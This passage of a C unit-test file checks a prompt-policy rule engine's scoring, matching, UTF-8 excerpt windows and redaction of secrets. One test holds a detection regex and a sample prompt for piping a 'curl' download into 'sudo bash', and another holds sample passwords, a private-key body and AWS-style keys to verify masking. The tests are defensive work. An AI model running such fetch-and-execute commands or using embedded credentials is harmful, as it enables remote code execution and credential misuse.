                assert_int_equal(d1.score_micros, d0.score_micros);
                assert_int_equal(d1.decision, d0.decision);
                assert_int_equal(d1.nreasons, d0.nreasons);
            }
            gov_policy_decision_clear(&d0);
            gov_policy_decision_clear(&d1);
            gov_policy_request_clear(&req);
        }
        gov_rulepack_free(p0);
        gov_rulepack_free(p1);
    }
    /* The property was exercised, not vacuous. */
    assert_true(matched_pairs > 100);
    assert_true(raised > 50);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
}

/* (c) The score is min(1000000, sum of the matched "add" weights), summed
 * here independently; 500 rules of weight 1 all matching saturate without
 * overflow. */
static void test_clamping(void **state) {
    (void)state;
    rng_state = 99;
    gov_policy_constitution_t *c = constitution_from_text("{}");
    for (int iter = 0; iter < 40; iter++) {
        char text[16384];
        int64_t weights[20];
        int nr = 1 + (int)rnd(20);
        size_t o = (size_t)snprintf(text, sizeof text,
                                    "{\"pack_id\":\"c\",\"tenant\":\"demo\",\"version\":\"1\","
                                    "\"rules\":[");
        for (int i = 0; i < nr; i++) {
            weights[i] = rnd(3) == 0 ? 1000000 : rnd(1000001);
            o += (size_t)snprintf(text + o, sizeof text - o,
                                  "%s{\"id\":\"c%02d\",\"severity\":\"low\",\"weight\":%lld.%06lld,"
                                  "\"effect\":\"add\",\"message\":\"m\",\"match\":{\"role\":[\"%s\"]}}",
                                  i ? "," : "", i, (long long)(weights[i] / 1000000),
                                  (long long)(weights[i] % 1000000), roles[i % 3]);
        }
        snprintf(text + o, sizeof text - o, "]}");
        gov_rulepack_t *p = pack_from_text(text);
        for (int r = 0; r < 3; r++) {
            char rq[256];
            snprintf(rq, sizeof rq,
                     "{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"%s\","
                     "\"prompt\":\"\"}",
                     roles[r]);
            gov_policy_request_t req;
            request_from_text(rq, strlen(rq), &req);
            gov_policy_decision_t d;
            evaluate(c, p, &req, NULL, &d);
            int64_t sum = 0;
            for (int i = 0; i < nr; i++)
                if (i % 3 == r)
                    sum += weights[i];
            assert_int_equal(d.score_micros, sum > 1000000 ? 1000000 : sum);
            assert_true(d.score_micros >= 0 && d.score_micros <= 1000000);
            gov_policy_decision_clear(&d);
            gov_policy_request_clear(&req);
        }
        gov_rulepack_free(p);
    }
    /* 500 rules of weight 1, all matching. */
    size_t cap = 500 * 160 + 256, o;
    char *big = malloc(cap);
    assert_non_null(big);
    o = (size_t)snprintf(big, cap, "{\"pack_id\":\"c\",\"tenant\":\"demo\",\"version\":\"1\","
                                   "\"rules\":[");
    for (int i = 0; i < 500; i++)
        o += (size_t)snprintf(big + o, cap - o,
                              "%s{\"id\":\"w%03d\",\"severity\":\"low\",\"weight\":1,\"effect\":"
                              "\"add\",\"message\":\"m\",\"match\":{\"role\":[\"r\"]}}",
                              i ? "," : "", i);
    snprintf(big + o, cap - o, "]}");
    gov_rulepack_t *p = pack_from_text(big);
    free(big);
    gov_policy_request_t req;
    request_from_text("{" REQ_HEAD ",\"prompt\":\"\"}", strlen("{" REQ_HEAD ",\"prompt\":\"\"}"),
                      &req);
    gov_policy_decision_t d;
    evaluate(c, p, &req, NULL, &d);
    assert_int_equal(d.score_micros, 1000000);
    assert_int_equal(d.nreasons, 500);
    assert_string_equal(d.reasons[0].rule_id, "w000");
    assert_string_equal(d.reasons[499].rule_id, "w499");
    assert_int_equal(d.decision, GOV_DECISION_ALLOW);   /* 1.0 is not above the default 1.0 */
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);
    gov_rulepack_free(p);
    gov_policy_constitution_free(c);
}

/* (d) Shuffling the declaration order of the base pack's rules changes no
 * byte of any response (input_digest included) nor of the canonical JSON. */
static void test_shuffled_rules_same_bytes(void **state) {
    (void)state;
    json_t *v = vectors();
    json_t *base = json_object_get(json_object_get(v, "packs"), "base");
    gov_rulepack_t *p0 = pack_from_json(base);
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    rng_state = 5;
    for (int shuffle = 0; shuffle < 8; shuffle++) {
        json_t *copy = json_deep_copy(base);
        json_t *rules = json_object_get(copy, "rules");
        size_t n = json_array_size(rules);
        for (size_t i = n - 1; i > 0; i--) {   /* Fisher-Yates */
            size_t j = rnd((uint32_t)(i + 1));
            json_t *a = json_incref(json_array_get(rules, i));
            json_t *b = json_incref(json_array_get(rules, j));
            json_array_set_new(rules, i, b);
            json_array_set_new(rules, j, a);
        }
        gov_rulepack_t *p1 = pack_from_json(copy);
        assert_string_equal(gov_rulepack_canonical_json(p0, NULL),
                            gov_rulepack_canonical_json(p1, NULL));
        json_t *cs;
        size_t i;
        json_array_foreach(json_object_get(v, "cases"), i, cs) {
            if (strcmp(json_string_value(json_object_get(cs, "pack")), "base") != 0)
                continue;
            gov_policy_constitution_t *c = constitution_from_json(json_object_get(
                json_object_get(v, "constitutions"),
                json_string_value(json_object_get(cs, "constitution"))));
            gov_policy_request_t req;
            request_from_json(json_object_get(cs, "request"), &req);
            char *a = evaluate_json(c, p0, &req, s), *b = evaluate_json(c, p1, &req, s);
            assert_string_equal(a, b);
            assert_string_equal(a, json_string_value(
                                       json_object_get(json_object_get(cs, "expect"), "json")));
            gov_free(a);
            gov_free(b);
            gov_policy_request_clear(&req);
            gov_policy_constitution_free(c);
        }
        gov_rulepack_free(p1);
        json_decref(copy);
    }
    gov_matcher_scratch_free(s);
    gov_rulepack_free(p0);
}

/* (e) In one pack, rule "l.N" holds a case-insensitive literal and rule
 * "r.N" the same text as an escaped case-insensitive regex: on random
 * prompts both match or neither, with the same excerpt. */
static void test_caseless_literal_vs_regex_rules(void **state) {
    (void)state;
    static const char *const pieces[] = {"a", "B", ".", "*", "+", "(", ")", "?", "\xc3\xa9",
                                         "\xc3\x89", "k", "K", " ", "$"};
    const uint32_t np = sizeof pieces / sizeof pieces[0];
    rng_state = 31337;
    enum { NR = 12 };
    char lits[NR][32];
    char pack[16384];
    size_t o = (size_t)snprintf(pack, sizeof pack, "{\"pack_id\":\"e\",\"tenant\":\"demo\","
                                                   "\"version\":\"1\",\"rules\":[");
    for (int i = 0; i < NR; i++) {
        lits[i][0] = '\0';
        int n = 1 + (int)rnd(3);
        for (int k = 0; k < n; k++)
            strcat(lits[i], pieces[rnd(np)]);
        json_t *ls = json_string(lits[i]);
        char re[96];
        size_t ro = 0;
        for (const char *q = lits[i]; *q; q++) {
            unsigned char ch = (unsigned char)*q;
            int alnum = (ch >= '0' && ch <= '9') || (ch >= 'a' && ch <= 'z') ||
                        (ch >= 'A' && ch <= 'Z');
            if (ch < 0x80 && !alnum)
                re[ro++] = '\\';
            re[ro++] = (char)ch;
        }
        re[ro] = '\0';
        json_t *rs = json_string(re);
        char *lj = json_dumps(ls, JSON_ENCODE_ANY), *rj = json_dumps(rs, JSON_ENCODE_ANY);
        o += (size_t)snprintf(pack + o, sizeof pack - o,
                              "%s{\"id\":\"l.%02d\",\"severity\":\"low\",\"weight\":0.01,\"effect\":"
                              "\"add\",\"message\":\"m\",\"match\":{\"prompt\":[{\"literal\":%s,"
                              "\"case_insensitive\":true}]}},"
                              "{\"id\":\"r.%02d\",\"severity\":\"low\",\"weight\":0.01,\"effect\":"
                              "\"add\",\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":%s,"
                              "\"case_insensitive\":true}]}}",
                              i ? "," : "", i, lj, i, rj);
        free(lj);
        free(rj);
        json_decref(ls);
        json_decref(rs);
    }
    snprintf(pack + o, sizeof pack - o, "]}");
    gov_rulepack_t *p = pack_from_text(pack);
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(gov_rulepack_matcher(p), &s), GOV_OK);
    int hits = 0;
    for (int iter = 0; iter < 300; iter++) {
        char prompt[512] = "";
        int n = (int)rnd(40);
        for (int k = 0; k < n; k++)
            strcat(prompt, pieces[rnd(np)]);
        json_t *rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s",
                               "user", "u", "role", "r", "prompt", prompt);
        gov_policy_request_t req;
        request_from_json(rq, &req);
        json_decref(rq);
        gov_policy_decision_t d;
        evaluate(c, p, &req, s, &d);
        for (int i = 0; i < NR; i++) {
            char lid[16], rid[16];
            snprintf(lid, sizeof lid, "l.%02d", i);
            snprintf(rid, sizeof rid, "r.%02d", i);
            const gov_policy_reason_t *lr = NULL, *rr = NULL;
            for (size_t k = 0; k < d.nreasons; k++) {
                if (strcmp(d.reasons[k].rule_id, lid) == 0)
                    lr = &d.reasons[k];
                if (strcmp(d.reasons[k].rule_id, rid) == 0)
                    rr = &d.reasons[k];
            }
            if ((lr == NULL) != (rr == NULL))
                fail_msg("literal \"%s\" and its regex disagree on \"%s\"", lits[i], prompt);
            if (lr != NULL) {
                hits++;
                assert_int_equal(lr->match_end, rr->match_end);
                assert_int_equal(lr->excerpt_start, rr->excerpt_start);
                assert_int_equal(lr->excerpt_end, rr->excerpt_end);
            }
        }
        gov_policy_decision_clear(&d);
        gov_policy_request_clear(&req);
    }
    assert_true(hits > 100);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* ---- excerpts ------------------------------------------------------------------------------ */

/* For prompts mixing 1- to 4-byte characters and every match end on a
 * character boundary, the window is valid UTF-8, at most 64 bytes, holds
 * the match end, and loses at most 3 bytes at each side to the cut. */
static void test_excerpt_window_utf8(void **state) {
    (void)state;
    static const char *const chars[] = {"a", "\xc3\xa9", "\xe2\x82\xac", "\xf0\x9f\x99\x82"};
    rng_state = 11;
    for (int iter = 0; iter < 200; iter++) {
        char prompt[600];
        size_t len = 0, bounds[600], nb = 0;
        int n = (int)rnd(140);
        bounds[nb++] = 0;
        for (int k = 0; k < n; k++) {
            const char *c = chars[rnd(4)];
            memcpy(prompt + len, c, strlen(c));
            len += strlen(c);
            bounds[nb++] = len;
        }
        for (size_t b = 0; b < nb; b++) {
            size_t s = 99, e = 99, end = bounds[b];
            gov_policy_excerpt_window(prompt, len, end, &s, &e);
            assert_true(s <= end && end <= e && e <= len);
            assert_true(e - s <= GOV_EXCERPT_MAX);
            assert_true(gov_utf8_valid(prompt + s, e - s));
            size_t ws = end > 48 ? end - 48 : 0;
            size_t we = len - ws > 64 ? ws + 64 : len;
            if (we - ws < 64)
                ws = we > 64 ? we - 64 : 0;
            assert_true(s >= ws && s - ws <= 3);
            assert_true(e <= we && we - e <= 3);
        }
    }
}

/* A prompt of 4-byte emoji only, and a match between multi-byte characters,
 * end to end. */
static void test_excerpt_emoji_prompt(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text(
        "{\"pack_id\":\"u\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
        "{\"id\":\"smile\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\",\"message\":"
        "\"smiling\",\"match\":{\"prompt\":[{\"literal\":\"\xf0\x9f\x99\x82\xf0\x9f\x99\x83\"}]}},"
        "{\"id\":\"word\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\",\"message\":"
        "\"w\",\"match\":{\"prompt\":[{\"regex\":\"\xc3\xa9t\xc3\xa9.\",\"case_insensitive\":true}]}},"
        "{\"id\":\"zz\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\",\"message\":"
        "\"z\",\"match\":{\"prompt\":[{\"literal\":\"ZZ\"}]}}]}");
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    /* 40 x U+1F642 then U+1F643 then 40 x U+1F642: 324 bytes. */
    char prompt[400] = "";
    for (int i = 0; i < 40; i++)
        strcat(prompt, "\xf0\x9f\x99\x82");
    strcat(prompt, "\xf0\x9f\x99\x83");
    for (int i = 0; i < 40; i++)
        strcat(prompt, "\xf0\x9f\x99\x82");
    json_t *rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s", "user",
                           "u", "role", "r", "prompt", prompt);
    gov_policy_request_t req;
    request_from_json(rq, &req);
    json_decref(rq);
    gov_policy_decision_t d;
    evaluate(c, p, &req, s, &d);
    assert_int_equal(d.nreasons, 1);
    const gov_policy_reason_t *r = &d.reasons[0];
    assert_string_equal(r->rule_id, "smile");
    assert_int_equal(r->match_end, 41 * 4);               /* ends after the U+1F643 */
    assert_int_equal(r->excerpt_start, 41 * 4 - 48);       /* 116, a boundary */
    assert_int_equal(r->excerpt_end, 41 * 4 - 48 + 64);    /* 180, a boundary */
    assert_int_equal(r->excerpt_len, 64);
    assert_true(gov_utf8_valid(r->excerpt, r->excerpt_len));
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);

    /* "x" + 30 x "é" (é at odd offsets 1..59), then "ÉTÉ" + 30 x "è": the
     * regex "été." ends after the first "è", at 68; 68 - 48 = 20 is inside
     * an "é", so the window starts at 21; 20 + 64 = 84 starts an "è". */
    char p2[256] = "x";
    for (int i = 0; i < 30; i++)
        strcat(p2, "\xc3\xa9");
    strcat(p2, "\xc3\x89T\xc3\x89");
    for (int i = 0; i < 30; i++)
        strcat(p2, "\xc3\xa8");
    rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s", "user", "u",
                   "role", "r", "prompt", p2);
    request_from_json(rq, &req);
    json_decref(rq);
    evaluate(c, p, &req, s, &d);
    assert_int_equal(d.nreasons, 1);
    r = &d.reasons[0];
    assert_string_equal(r->rule_id, "word");
    assert_int_equal(r->match_end, 68);
    assert_int_equal(r->excerpt_start, 21);
    assert_int_equal(r->excerpt_end, 84);
    assert_true(gov_utf8_valid(r->excerpt, r->excerpt_len));
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);

    /* "a" + 40 emoji (at 1 + 4k) + "ZZq" (161..163) + 40 emoji (at 164 + 4k):
     * "ZZ" ends at 163; 115 is inside an emoji, so the start moves to 117;
     * 179 is inside the emoji at 176, so the end moves back to 176. */
    char p3[400] = "a";
    for (int i = 0; i < 40; i++)
        strcat(p3, "\xf0\x9f\x99\x82");
    strcat(p3, "ZZq");
    for (int i = 0; i < 40; i++)
        strcat(p3, "\xf0\x9f\x99\x82");
    rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s", "user", "u",
                   "role", "r", "prompt", p3);
    request_from_json(rq, &req);
    json_decref(rq);
    evaluate(c, p, &req, s, &d);
    assert_int_equal(d.nreasons, 1);
    r = &d.reasons[0];
    assert_string_equal(r->rule_id, "zz");
    assert_int_equal(r->match_end, 163);
    assert_int_equal(r->excerpt_start, 117);
    assert_int_equal(r->excerpt_end, 176);
    assert_int_equal(r->excerpt_len, 59);
    assert_true(gov_utf8_valid(r->excerpt, r->excerpt_len));
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* ---- redaction ------------------------------------------------------------------------------ */

static const gov_policy_reason_t *reason_of(const gov_policy_decision_t *d, const char *id) {
    for (size_t i = 0; i < d->nreasons; i++)
        if (strcmp(d->reasons[i].rule_id, id) == 0)
            return &d->reasons[i];
    fail_msg("no reason %s", id);
    return NULL;
}

static void request_with_prompt(const char *prompt, gov_policy_request_t *req) {
    json_t *rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s", "user",
                           "u", "role", "r", "prompt", prompt);
    request_from_json(rq, req);
    json_decref(rq);
}

#define RULE_LIT(id, lit, extra)                                                            \
    "{\"id\":\"" id "\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","       \
    "\"message\":\"m\"" extra ",\"match\":{\"prompt\":[{\"literal\":\"" lit "\"}]}}"

/* The redact member: its default by id namespace, explicit values both
 * ways, its type checked; and what each choice shows. */
static void test_redact_member(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text(
        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
        RULE_LIT("pii.a", "AAA", "") "," RULE_LIT("secrets.b", "BBB", ",\"redact\":false") ","
        RULE_LIT("other.c", "CCC", "") "," RULE_LIT("other.d", "DDD", ",\"redact\":true") ","
        RULE_LIT("secretsx", "EEE", "") ","
        "{\"id\":\"role.only\",\"severity\":\"low\",\"weight\":0,\"effect\":\"add\","
        "\"message\":\"m\",\"redact\":true,\"match\":{\"role\":[\"r\"]}}]}");
    static const struct {
        const char *id;
        int redact;
    } want[] = {{"other.c", 0}, {"other.d", 1}, {"pii.a", 1}, {"role.only", 1},
                {"secrets.b", 0}, {"secretsx", 0}};
    assert_int_equal(gov_rulepack_rule_count(p), 6);
    for (size_t i = 0; i < 6; i++) {
        assert_string_equal(gov_rulepack_rule(p, i)->id, want[i].id);
        assert_int_equal(gov_rulepack_rule(p, i)->redact, want[i].redact);
    }
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    gov_policy_request_t req;
    gov_policy_decision_t d;
    /* The redacting rules' matches come last: from AAA on, everything is
     * masked in every excerpt ("xyz" is nobody's match). */
    request_with_prompt("BBB CCC EEE AAA xyz DDD", &req);
    evaluate(c, p, &req, s, &d);
    assert_string_equal(reason_of(&d, "pii.a")->excerpt, "*** *** *** ***********");
    assert_string_equal(reason_of(&d, "secrets.b")->excerpt, "BBB *** *** ***********");
    assert_string_equal(reason_of(&d, "other.c")->excerpt, "*** CCC *** ***********");
    assert_string_equal(reason_of(&d, "other.d")->excerpt, "*** *** *** ***********");
    assert_string_equal(reason_of(&d, "secretsx")->excerpt, "*** *** EEE ***********");
    assert_int_equal(reason_of(&d, "role.only")->has_excerpt, 0);
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);

    /* Not a boolean: refused, naming the rule and the member. */
    const char *bad = "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
                      RULE_LIT("pii.a", "AAA", ",\"redact\":1") "]}";
    gov_rulepack_t *q = NULL;
    gov_rulepack_error_t det;
    char err[256] = "";
    assert_int_equal(gov_rulepack_parse(bad, strlen(bad), NULL, &q, &det, err, sizeof err),
                     GOV_ERR_VERIFY);
    assert_null(q);
    assert_int_equal(det.code, GOV_REASON_INVALID_TYPE);
    assert_string_equal(det.field, "redact");
    assert_string_equal(det.rule_id, "pii.a");
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* Overlapping matches, matches across both window edges, a pattern whose
 * start Vectorscan cannot track, by hand.  No rule here redacts (the token
 * rule says so), so no match masks what follows it. */
static void test_redaction_edges(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text(
        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
        "{\"id\":\"secrets.tok\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
        "\"message\":\"m\",\"redact\":false,"
        "\"match\":{\"prompt\":[{\"regex\":\"tok_[a-z0-9]{8}\"}]}},"
        RULE_LIT("note.prefix", "tok_", "") "," RULE_LIT("note.mark", "MARK", "") ","
        /* Vectorscan refuses start-of-match for this one ("Pattern is too large.") */
        "{\"id\":\"shell.pipe\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
        "\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":"
        "\"\\\\b(?:curl|wget) [^|;\\\\n]{1,200}\\\\| *(?:sudo +)?(?:ba|z)?sh\\\\b\"}]}}]}");
    const gov_matcher_t *m = gov_rulepack_matcher(p);
    /* patterns in rule id order: note.mark, note.prefix, secrets.tok, shell.pipe */
    assert_int_equal(gov_matcher_pattern_has_start(m, 0), 1);
    assert_int_equal(gov_matcher_pattern_has_start(m, 2), 1);
    assert_int_equal(gov_matcher_pattern_has_start(m, 3), 0);
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    gov_policy_request_t req;
    gov_policy_decision_t d;

    /* 10 x, a token over 10..22, 40 y, MARK over 62..66: MARK's window is
     * [18, 82): it starts inside the token, whose bytes 18..22 are masked;
     * a second token over 76..88 crosses its end: 76..82 masked.  The
     * prefix rule (redact false) overlaps the token: masked anyway; its
     * window [0, 64) ends inside MARK, another rule's match: "MA" masked. */
    char prompt[256];
    snprintf(prompt, sizeof prompt, "%s%s%s%s%s%s", "xxxxxxxxxx", "tok_abcd1234",
             "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy", "MARK", "zzzzzzzzzz", "tok_efgh5678zz");
    request_with_prompt(prompt, &req);
    evaluate(c, p, &req, s, &d);
    const gov_policy_reason_t *r = reason_of(&d, "note.mark");
    assert_int_equal(r->excerpt_start, 18);
    assert_int_equal(r->excerpt_end, 82);
    assert_string_equal(r->excerpt,
                        "****yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyMARKzzzzzzzzzz******");
    r = reason_of(&d, "note.prefix");
    assert_int_equal(r->excerpt_start, 0);
    assert_string_equal(r->excerpt,
                        "xxxxxxxxxx************yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy**");
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);

    /* A match without a known start masks everything before its end in the
     * window of another rule (here: all of MARK's window up to "bash", the
     * first MARK too); shell.pipe (redact false) still shows its own match,
     * never MARK's. */
    request_with_prompt("MARK curl http://x/i.sh | sudo bash then MARK", &req);
    evaluate(c, p, &req, s, &d);
    r = reason_of(&d, "note.mark");
    assert_string_equal(r->excerpt, "*********************************** then MARK");
    r = reason_of(&d, "shell.pipe");
    assert_string_equal(r->excerpt, "**** curl http://x/i.sh | sudo bash then ****");
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* Random prompts of tokens, prefixes, words and multi-byte characters
 * against a reference written here: each excerpt byte is '*' exactly when
 * its character holds a byte of a match of another rule, or of its own rule
 * when that rule redacts, or lies at or after the first match of a
 * redacting rule; otherwise it is the prompt's byte. */
static void test_redaction_vs_reference(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text(
        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
        "{\"id\":\"secrets.tok\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
        "\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":\"tok_[a-z0-9]{8}\"}]}},"
        RULE_LIT("note.prefix", "tok_", "") "," RULE_LIT("note.hello", "hello", "") ","
        RULE_LIT("pii.accent", "\xc3\xa9t\xc3\xa9", "") "]}");
    static const char *const frags[] = {"tok_abcd1234", "tok_", "hello", "\xc3\xa9t\xc3\xa9",
                                        "\xc3\xa9", "\xf0\x9f\x99\x82", "x", " ", "abcd12",
                                        "\xe2\x82\xac"};
    static const char *const lits[] = {"tok_", "hello", "\xc3\xa9t\xc3\xa9"};
    static const char *const lit_rule[] = {"note.prefix", "note.hello", "pii.accent"};
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    rng_state = 99;
    long masked_total = 0;
    for (int iter = 0; iter < 300; iter++) {
        char prompt[1024];
        size_t len = 0;
        int n = 1 + (int)rnd(40);
        for (int k = 0; k < n; k++) {
            const char *f = frags[rnd(sizeof frags / sizeof frags[0])];
            memcpy(prompt + len, f, strlen(f));
            len += strlen(f);
        }
        prompt[len] = '\0';
        /* cover[x]: bit i for rule i of {secrets.tok, note.prefix, note.hello, pii.accent} */
        unsigned char cover[1024];
        memset(cover, 0, len);
        for (size_t i = 0; i + 12 <= len; i++) {
            int ok = memcmp(prompt + i, "tok_", 4) == 0;
            for (size_t k = 4; ok && k < 12; k++)
                ok = (prompt[i + k] >= 'a' && prompt[i + k] <= 'z') ||
                     (prompt[i + k] >= '0' && prompt[i + k] <= '9');
            for (size_t k = 0; ok && k < 12; k++)
                cover[i + k] |= 1;
        }
        for (int l = 0; l < 3; l++)
            for (size_t i = 0; i + strlen(lits[l]) <= len; i++)
                if (memcmp(prompt + i, lits[l], strlen(lits[l])) == 0)
                    for (size_t k = 0; k < strlen(lits[l]); k++)
                        cover[i + k] |= (unsigned char)(2u << l);
        /* The redacting rules: secrets.tok (bit 0) and pii.accent (bit 3). */
        size_t tail = len;
        for (size_t i = 0; i < len && tail == len; i++)
            if ((cover[i] & 9u) != 0)
                tail = i;
        gov_policy_request_t req;
        gov_policy_decision_t d;
        request_with_prompt(prompt, &req);
        evaluate(c, p, &req, s, &d);
        for (size_t i = 0; i < d.nreasons; i++) {
            const gov_policy_reason_t *r = &d.reasons[i];
            unsigned own = strcmp(r->rule_id, "secrets.tok") == 0 ? 1u : 0u;
            for (int l = 0; l < 3; l++)
                if (strcmp(r->rule_id, lit_rule[l]) == 0)
                    own = 2u << l;
            int redacts = strcmp(r->rule_id, "secrets.tok") == 0 ||
                          strcmp(r->rule_id, "pii.accent") == 0;
            unsigned hide = redacts ? 0xFFu : (unsigned)~own & 0xFFu;
            assert_true(gov_utf8_valid(r->excerpt, r->excerpt_len));
            for (size_t k = r->excerpt_start; k < r->excerpt_end;) {
                unsigned char b = (unsigned char)prompt[k];
                size_t cl = b >= 0xF0 ? 4 : b >= 0xE0 ? 3 : b >= 0xC0 ? 2 : 1;
                int mask = 0;
                for (size_t q = k; q < k + cl; q++)
                    mask |= (cover[q] & hide) != 0 || q >= tail;
                for (size_t q = k; q < k + cl; q++) {
                    char got = r->excerpt[q - r->excerpt_start];
                    if (mask ? got != '*' : got != prompt[q])
                        fail_msg("iter %d rule %s byte %zu: got %c, mask %d\nprompt %s\nexcerpt %s",
                                 iter, r->rule_id, q, got, mask, prompt, r->excerpt);
                }
                masked_total += mask;
                k += cl;
            }
        }
        gov_policy_decision_clear(&d);
        gov_policy_request_clear(&req);
    }
    assert_true(masked_total > 1000);   /* the property was exercised */
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* A secret comes after its sign: the three prompts of the review (a
 * password after "my password is", a PEM body after its header, an AWS
 * secret access key after its key id) and the key before its id, through
 * the demo and the bench packs as shipped.  No excerpt shows 6 bytes in a
 * row of the secret; the excerpts of the secret rules show what came before
 * the sign, the rest is '*'. */
static void test_redaction_hides_what_follows_a_secret(void **state) {
    (void)state;
    static const struct {
        const char *prompt, *secret, *visible;
    } cases[] = {
        {"log in for me please, my password is Tr0ub4dor&3 and hurry", "Tr0ub4dor&3",
         "log in for me please, "},
        {"keep this safe: -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj"
         "AgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZH\n"
         "-----END PRIVATE KEY-----",
         "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1"
         "GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZH", "keep this safe: "},
        {"my aws creds: AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ok",
         "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "my aws creds: "},
        {"my aws creds: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY AKIAIOSFODNN7EXAMPLE ok",
         "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "my aws creds: "},
    };
    static const char *const packs[] = {"deploy/demo/rulepack-demo.json",
                                        "bench/rulepack-bench.json"};
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    gov_policy_constitution_t *c = constitution_from_text("{}");
    for (size_t pk = 0; pk < 2; pk++) {
        char *text = unit_slurp(packs[pk], NULL);
        json_t *j = json_loads(text, 0, NULL);
        assert_non_null(j);
        json_object_set_new(j, "tenant", json_string("demo"));
        gov_rulepack_t *p = pack_from_json(j);
        json_decref(j);
        free(text);
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
            gov_policy_request_t req;
            gov_policy_decision_t d;
            request_with_prompt(cases[i].prompt, &req);
            evaluate(c, p, &req, s, &d);
            size_t secret_rules = 0;
            for (size_t k = 0; k < d.nreasons; k++) {
                const gov_policy_reason_t *r = &d.reasons[k];
                if (!r->has_excerpt)
                    continue;
                for (size_t q = 0; q + 6 <= strlen(cases[i].secret); q++)
                    if (memmem(r->excerpt, r->excerpt_len, cases[i].secret + q, 6) != NULL)
                        fail_msg("%s case %zu: %s shows \"%.6s\": %s", packs[pk], i,
                                 r->rule_id, cases[i].secret + q, r->excerpt);
                if (strncmp(r->rule_id, "secrets.", 8) != 0)
                    continue;
                secret_rules++;
                size_t v = strlen(cases[i].visible);
                for (size_t q = r->excerpt_start; q < r->excerpt_end; q++)
                    if (r->excerpt[q - r->excerpt_start] != (q < v ? cases[i].prompt[q] : '*'))
                        fail_msg("%s case %zu: %s, byte %zu: %s", packs[pk], i, r->rule_id, q,
                                 r->excerpt);
            }
            if (secret_rules == 0)
                fail_msg("%s case %zu: no secret rule matched", packs[pk], i);
            gov_policy_decision_clear(&d);
            gov_policy_request_clear(&req);
        }
        gov_rulepack_free(p);
    }
